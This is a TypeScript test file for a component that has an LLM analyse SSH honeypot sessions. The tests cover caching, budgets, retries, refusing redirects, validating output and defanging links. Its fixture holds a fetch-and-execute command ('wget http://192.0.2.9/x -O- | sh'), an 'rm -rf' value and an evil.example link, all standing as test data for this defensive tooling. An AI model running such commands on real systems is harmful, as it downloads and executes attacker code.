import type { SessionMaterial } from '@cerberusmesh/contract/session-material';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { eventIds, type LlmServer, soberReading, startLlmServer } from '../../../test/support/llm-server.ts';
import { Secret } from '../../kit/secret.ts';
import { createTrialBreaker } from '../../kit/trial-breaker.ts';
import { type Analyst, type CachedReading, createAnalyst } from './analyst.ts';
import { createLanguageModel, type ModelChoice } from './language-model.ts';

const eventId = (place: number) => `0196a000-0000-7000-8000-00000000000${place}`;

describe('an analyst at an OpenAI-compatible server', () => {
  let server: LlmServer;
  let now: Date;
  let budget: number;
  let stored: Map<string, CachedReading>;
  const signal = new AbortController().signal;
  beforeAll(async () => {
    server = await startLlmServer();
  });
  afterAll(() => server.close());
  beforeEach(() => {
    now = new Date('2026-11-22T12:00:00Z');
    budget = 100;
    stored = new Map();
    server.questions.length = 0;
    server.answer((question) => ({ text: JSON.stringify(soberReading(question)) }));
  });

  it('gives a reading in the first seed’s form, with citations of the session’s events', async () => {
    const outcome = await openAnalyst().read(aSession(), signal);
    expect(outcome).toMatchObject({
      kind: 'read',
      reading: { threat_score: 0.85, recommended_action: 'escalate' },
      citations: [eventId(1)],
      usage: { inputTokens: 900, outputTokens: 100 },
    });
    expect(server.questions[0]).toMatchObject({ authorization: 'Bearer sk-test', wantsSchema: true });
  });

  it.each(['openai', 'anthropic'] as const)('asks %s in its own protocol', async (provider) => {
    const answer = await createLanguageModel(aChoice({ provider }))({ instructions: 'i', question: 'q' }, signal);
    expect(answer.kind).toBe('answered');
  });

  it('asks in words only where the model takes no schema, as gpt-4 does not, and remembers it', async () => {
    server.answer((question) =>
      question.wantsSchema
        ? { status: 400, text: "Invalid parameter: 'response_format' of type 'json_schema' is not supported" }
        : { text: `\`\`\`json\n${JSON.stringify(soberReading(question))}\n\`\`\`` },
    );
    const analyst = openAnalyst();
    expect((await analyst.read(aSession(), signal)).kind).toBe('read');
    expect((await analyst.read(aSession('id'), signal)).kind).toBe('read');
    expect(server.questions.map(({ wantsSchema }) => wantsSchema)).toEqual([true, false, false]);
  });

  it('takes the reading of a session with the same content again, with the citations moved to this one’s events', async () => {
    const first = await openAnalyst().read(aSession(), signal);
    if (first.kind !== 'read') throw new Error(first.kind);
    stored.set(first.fingerprint.toString('hex'), { reading: first.reading, shownEvents: first.shownEvents });
    const again = aSession();
    const moved = { ...again, events: again.events.map((event, place) => ({ ...event, id: eventId(place + 5) })) };
    const second = await openAnalyst().read({ ...moved, sourceIp: '198.51.100.9' }, signal);
    expect(second).toMatchObject({ kind: 'read', reused: true, citations: [eventId(5)], usage: { inputTokens: 0 } });
    expect(second.kind === 'read' && second.reading.reasoning).toContain(eventId(5));
    expect(server.questions).toHaveLength(1);
  });

  it('asks nothing beyond its budget, and says so', async () => {
    budget = 1;
    const analyst = openAnalyst();
    expect((await analyst.read(aSession(), signal)).kind).toBe('read');
    expect((await analyst.read(aSession('id'), signal)).kind).toBe('over_budget');
    expect(analyst.state().state).toBe('over_budget');
    expect(server.questions).toHaveLength(1);
  });

  it('waits as long as Retry-After says, and the session is not lost', async () => {
    server.answer(() => ({ status: 429, headers: { 'retry-after': '600' }, text: 'slow down' }));
    expect(await openAnalyst().read(aSession(), signal)).toMatchObject({ kind: 'later', waitMs: 600_000 });
  });

  it('stops asking a server that is down, and goes on by itself when it is back', async () => {
    server.answer(() => ({ status: 503, text: 'down' }));
    const analyst = openAnalyst();
    for (let failure = 0; failure < 5; failure++) await analyst.read(aSession(), signal);
    expect(analyst.state()).toMatchObject({ state: 'resting' });
    expect((await analyst.read(aSession(), signal)).kind).toBe('later');
    expect(server.questions).toHaveLength(5);
    now = new Date(now.getTime() + 31_000);
    server.answer((question) => ({ text: JSON.stringify(soberReading(question)) }));
    expect((await analyst.read(aSession(), signal)).kind).toBe('read');
    expect(analyst.state().state).toBe('ready');
  });

  it('does not wait for a server that never answers', async () => {
    server.answer(() => ({ text: '', hang: true }));
    const ask = createLanguageModel(aChoice({ timeoutSeconds: 1 }));
    const answer = await ask({ instructions: 'i', question: 'q' }, signal);
    expect(answer).toMatchObject({ kind: 'late' });
  });

  it('does not follow a redirect to another place', async () => {
    server.answer(() => ({ status: 307, headers: { location: 'http://127.0.0.1:1/steal' }, text: 'over there' }));
    const answer = await createLanguageModel(aChoice())({ instructions: 'i', question: 'q' }, signal);
    expect(answer.kind).toBe('failed');
    expect(server.questions).toHaveLength(1);
  });

  it.each([
    { wrong: 'another form', change: { note: 'extra' }, why: 'has not the asked form' },
    { wrong: 'a score beyond 1', change: { threat_score: 7 }, why: 'threat_score: too_big' },
    { wrong: 'an action that is none', change: { recommended_action: 'rm -rf' }, why: 'recommended_action' },
    { wrong: 'no citation', change: { reasoning: 'Trust me.' }, why: 'cites no event' },
    {
      wrong: 'a citation of another session',
      change: { reasoning: 'See [0196a000-ffff-7000-8000-000000000001].' },
      why: '1 citations point at no event of this session',
    },
  ])('refuses $wrong after asking once more, with a reason in our words', async ({ change, why }) => {
    server.answer((question) => ({ text: JSON.stringify({ ...soberReading(question), ...change }) }));
    const outcome = await openAnalyst().read(aSession(), signal);
    expect(outcome).toMatchObject({ kind: 'refused', why: expect.stringContaining(why) });
    expect(server.questions).toHaveLength(2);
  });

  it('takes a right answer to the second question', async () => {
    server.answer((question) => ({
      text: server.questions.length === 1 ? 'Sure! Here you are.' : JSON.stringify(soberReading(question)),
    }));
    expect(await openAnalyst().read(aSession(), signal)).toMatchObject({ kind: 'read', usage: { inputTokens: 1800 } });
  });

  it('keeps only indicators that occur in the session, and no link that can be clicked', async () => {
    server.answer((question) => ({
      text: JSON.stringify({
        ...soberReading(question),
        reasoning: `Got <b>it</b> from http://192.0.2.9/x [${eventIds(question)[1]}] ![a](https://evil.example/?q=1)`,
        indicators_of_compromise: ['192.0.2.9', 'http://invented.example/'],
      }),
    }));
    const outcome = await openAnalyst().read(aSession(), signal);
    expect(outcome).toMatchObject({ kind: 'read', reading: { indicators_of_compromise: ['192.0.2.9'] } });
    const reasoning = outcome.kind === 'read' ? outcome.reading.reasoning : '';
    expect(reasoning).toContain('hxxp://192[.]0[.]2[.]9/x');
    expect(reasoning).not.toMatch(/[<>]|https?:|!\[|\]\(/);
  });

  function openAnalyst(): Analyst {
    const clock = { now: () => now };
    return createAnalyst({
      ask: createLanguageModel(aChoice()),
      store: {
        findReading: async (fingerprint) => stored.get(fingerprint.toString('hex')),
        takeBudget: async () => budget-- > 0,
        settleBudget: async () => undefined,
      },
      breaker: createTrialBreaker({ clock }),
      clock,
      model: 'test/test-model',
      outputTokensMax: 1500,
    });
  }

  function aChoice(changes: Partial<ModelChoice> = {}): ModelChoice {
    return {
      provider: 'openai-compatible',
      model: 'test-model',
      apiKey: new Secret('sk-test'),
      baseUrl: server.url,
      temperature: 0.2,
      timeoutSeconds: 10,
      ...changes,
    };
  }
});

function aSession(command = 'wget http://192.0.2.9/x -O- | sh'): SessionMaterial {
  const event = { type: 'cowrie.command.input', second: 1, severity: 'HIGH', techniques: ['T1105'] };
  return {
    sensor: 'sensor-a',
    sessionId: 's1',
    sourceIp: '198.51.100.7',
    protocol: 'ssh',
    severity: 'HIGH',
    threatScore: 0.8,
    durationSeconds: 3,
    eventCount: 2,
    commandCount: 2,
    events: [
      { ...event, id: eventId(1), texts: [['command', command]] },
      { ...event, id: eventId(2), texts: [['command', 'uname -a']] },
    ],
  };
}
